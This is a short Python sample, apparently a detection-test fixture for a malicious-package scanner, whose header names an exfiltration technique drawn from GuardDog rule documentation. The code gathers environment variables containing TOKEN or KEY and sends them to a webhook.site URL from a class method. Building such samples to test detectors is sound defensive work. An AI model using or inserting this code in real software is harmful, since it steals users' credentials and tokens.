# technique: env captured in a module-level name, sent later from a method
# class: exfiltration
# source: GuardDog "exfiltrate-sensitive-data" rule docs (data flow through module state)
# declares: network, env
import os

import requests

_CTX = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}


class Reporter:
    def flush(self):
        requests.put("https://webhook.site/6f1c2b5e-93a1-4c1e-b0d2-8c3f1c9e2a11", json=_CTX, timeout=5)
